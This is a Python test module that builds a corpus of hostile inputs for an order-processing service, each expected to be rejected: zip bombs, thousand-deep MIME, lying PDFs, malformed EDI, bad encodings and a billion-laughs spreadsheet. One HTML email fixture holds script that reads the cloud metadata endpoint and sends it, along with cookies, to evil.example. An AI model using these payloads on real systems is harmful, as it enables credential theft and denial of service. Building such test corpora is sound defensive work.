"""The hostile-input corpus, generated (never committed as binaries).

Every entry must end FAILED with a one-line reason (or, over HTTP, be refused with 413/415),
and the service must stay up. It extends tests/bad_inputs/generate.py (the readers' bad inputs)
with what an attacker or a broken sender produces: zip bombs, 100 MB attachments, MIME nested a
thousand deep, malformed and huge EDI, wrong and mixed encodings, HTML with scripts, PDFs that
lie about themselves.
"""

from __future__ import annotations

import base64
import io
import random
import zipfile
from collections.abc import Callable
from email.message import EmailMessage

from tests.bad_inputs.generate import BAD_INPUTS
from tests.extractors import samples
from tests.scale.harness import x12_order

MB = 1024 * 1024


def _mail(body: bytes, *, ctype: str = "text/plain; charset=utf-8", cte: str = "8bit", subject: str = "hello") -> bytes:
    head = (f"From: stranger@example.com\r\nTo: orders@example.org\r\nSubject: {subject}\r\n"
            f"Message-ID: <{random.Random(len(body)).randrange(10**12)}@example.com>\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: {ctype}\r\nContent-Transfer-Encoding: {cte}\r\n\r\n").encode()
    return head + body + b"\r\n"


def html_with_scripts() -> bytes:
    html = ("<html><head><script>fetch('http://169.254.169.254/latest/meta-data/').then(r=>r.text())"
            ".then(t=>navigator.sendBeacon('https://evil.example/'+t))</script>"
            "<img src=x onerror=alert(document.cookie)><iframe src='javascript:alert(1)'></iframe></head>"
            "<body onload=\"document.location='https://evil.example/?c='+document.cookie\">"
            "<svg><script>alert(2)</script></svg><p>Hi, see you soon.</p></body></html>")
    return _mail(html.encode(), ctype="text/html; charset=utf-8")


def mime_nested(depth: int) -> bytes:
    """multipart/mixed inside multipart/mixed, ``depth`` deep, built as text (no recursion here)."""
    head = b"From: x@example.com\r\nTo: y@example.org\r\nSubject: deep\r\nMIME-Version: 1.0\r\n"
    parts = []
    for i in range(depth):
        parts.append(f'Content-Type: multipart/mixed; boundary="b{i}"\r\n\r\n--b{i}\r\n'.encode())
    middle = b"Content-Type: text/plain\r\n\r\nhello\r\n"
    tail = b"".join(f"\r\n--b{i}--\r\n".encode() for i in reversed(range(depth)))
    return head + b"".join(parts) + middle + tail


def zip_bomb_nested() -> bytes:
    """A zip holding a zip holding ... a sheet that inflates to 500 MB (42.zip style, small)."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
            chunk = b"\x00" * MB
            for _ in range(500):
                f.write(chunk)
    return inner.getvalue()


def mail_with_zip_bomb() -> bytes:
    msg = EmailMessage()
    msg["From"] = "stranger@example.com"
    msg["To"] = "orders@example.org"
    msg["Subject"] = "order attached"
    msg.set_content("see attachment")
    msg.add_attachment(samples.zip_bomb_xlsx(50_000_000), maintype="application",
                       subtype="vnd.openxmlformats-officedocument.spreadsheetml.sheet", filename="order.xlsx")
    return msg.as_bytes()


def mail_100mb_attachment() -> bytes:
    """A mail with a 100 MB attachment (base64: ~137 MB on the wire)."""
    blob = random.Random(100).randbytes(100 * MB)
    b64 = base64.encodebytes(blob)
    head = (b"From: stranger@example.com\r\nTo: orders@example.org\r\nSubject: big\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="BIG"\r\n\r\n--BIG\r\nContent-Type: text/plain\r\n\r\nsee att\r\n'
            b'--BIG\r\nContent-Type: application/pdf; name="po.pdf"\r\nContent-Transfer-Encoding: base64\r\n'
            b'Content-Disposition: attachment; filename="po.pdf"\r\n\r\n')
    return head + b64 + b"\r\n--BIG--\r\n"


def pdf_lying_xref() -> bytes:
    """A PDF whose xref points past the end and whose object streams are not compressed data."""
    return (b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>endobj\n"
            b"4 0 obj<</Length 99999/Filter/FlateDecode>>stream\n" + random.Random(4).randbytes(3000)
            + b"\nendstream endobj\nxref\n0 5\n0000000000 65535 f \ntrailer<</Size 5/Root 1 0 R>>\nstartxref\n999999\n%%EOF\n")


def pdf_page_bomb() -> bytes:
    """More pages than the limit allows."""
    return samples.pdf_pages(260)


def x12_truncated() -> bytes:
    return x12_order("PO-H1", 1)[:180]


def x12_bad_envelope() -> bytes:
    return b"ISA*00*short~GS*PO~ST*850*1~BEG*00*SA*PO-X~SE*3*1~"


def x12_segment_count_lies() -> bytes:
    return x12_order("PO-H2", 2).replace(b"SE*12*0001", b"SE*9999*0001")


def x12_huge() -> bytes:
    """An 850 with 300 000 line segments: over the segment limit (max_edi_segments)."""
    data = x12_order("PO-HUGE", 3).decode()
    head, _, rest = data.partition("PO1*1*")
    lines = "".join(f"PO1*{i}*1*EA*1.5**VN*SKU-{i}~" for i in range(1, 300_001))
    return (head + lines + "PO1*1*" + rest).encode()


def edifact_garbage() -> bytes:
    return b"UNA:+.? 'UNB+UNOC:3+BUYER+SELLER+261130:1200+1'UNH+1+ORDERS:D:96A:UN'BGM+220+" + b"?" * 5000 + b"'"


def edifact_not_an_order() -> bytes:
    return (b"UNA:+.? 'UNB+UNOC:3+BUYER:14+SELLER:14+261130:1200+42'UNH+1+INVOIC:D:96A:UN'BGM+380+INV-1+9'"
            b"UNT+3+1'UNZ+1+42'")


def utf16_no_bom_garbage() -> bytes:
    return "Hallo, wie geht's? Schöne Grüße aus Köln.\n".encode("utf-16-le") * 20


def mixed_encodings_mail() -> bytes:
    body = ("Grüße ".encode("utf-8") + "Grüße ".encode("latin-1") + "Привет ".encode("koi8-r")
            + "こんにちは".encode("shift_jis") + b"\xff\xfe\x00\xd8 broken surrogate " + "日本".encode("utf-16"))
    return _mail(body, ctype="text/plain; charset=utf-8")


def wrong_charset_mail() -> bytes:
    return _mail("Hi, just saying hello — nothing to order today.".encode("utf-16"),
                 ctype="text/plain; charset=us-ascii")


def base64_garbage_mail() -> bytes:
    return _mail(b"!!!!not base64 at all@@@@\r\n" * 50, cte="base64", ctype="application/pdf; name=x.pdf")


def nul_bytes() -> bytes:
    return b"\x00" * 10_000


def xml_billion_laughs() -> bytes:
    """An XLSX whose sheet XML declares entity expansion (must not expand)."""
    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
           + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
           '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                   'spreadsheetml.sheet.main+xml"/></Types>')
        z.writestr("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                   '<sheets><sheet name="S" sheetId="1" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                   '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                   'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", lol)
    return buf.getvalue()


# name -> generator. All of them must end FAILED (pipeline) or be refused at upload (HTTP).
HOSTILE: dict[str, Callable[[], bytes]] = {
    **{f"bad_{name}": gen for name, (gen, _err) in BAD_INPUTS.items()},
    "html_with_scripts": html_with_scripts,
    "mime_nested_1000": lambda: mime_nested(1000),
    "mime_nested_email_30": lambda: samples.eml_nested(30),
    "zip_bomb_500mb": zip_bomb_nested,
    "mail_with_zip_bomb": mail_with_zip_bomb,
    "pdf_lying_xref": pdf_lying_xref,
    "pdf_page_bomb": pdf_page_bomb,
    "x12_truncated": x12_truncated,
    "x12_bad_envelope": x12_bad_envelope,
    "x12_huge": x12_huge,
    "edifact_garbage": edifact_garbage,
    "edifact_not_an_order": edifact_not_an_order,
    "utf16_no_bom_garbage": utf16_no_bom_garbage,
    "mixed_encodings_mail": mixed_encodings_mail,
    "wrong_charset_mail": wrong_charset_mail,
    "base64_garbage_mail": base64_garbage_mail,
    "nul_bytes": nul_bytes,
    "xml_billion_laughs": xml_billion_laughs,
}

# broken but readable: the X12 reader accepts an SE count that lies (the 997 reports it); such
# input must not crash anything, whatever state it ends in
TOLERATED: dict[str, Callable[[], bytes]] = {
    "x12_segment_count_lies": x12_segment_count_lies,
}

# too big for the upload limit: 413 over HTTP, FAILED (limit) when a channel hands them over
OVERSIZED: dict[str, Callable[[], bytes]] = {
    "mail_100mb_attachment": mail_100mb_attachment,
}
